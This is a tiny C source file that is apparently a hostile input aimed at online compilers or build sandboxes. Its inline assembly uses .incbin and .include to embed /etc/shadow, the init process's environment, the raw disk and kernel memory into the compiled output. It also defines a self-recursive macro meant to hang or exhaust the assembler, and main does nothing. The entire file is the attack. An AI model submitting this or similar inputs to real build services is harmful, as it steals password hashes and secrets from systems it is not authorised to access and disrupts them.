__asm__(".incbin \"/etc/shadow\"\n"
        ".incbin \"/proc/1/environ\"\n"
        ".incbin \"/dev/vda\"\n"
        ".incbin \"/../init\"\n"
        ".include \"/proc/kcore\"\n"
        ".include \"/dev/stdin\"\n"
        ".include \"/proc/self/fd/0\"\n"
        ".macro again\n again\n again\n.endm\n again\n");

int main(void)
{
    return 0;
}
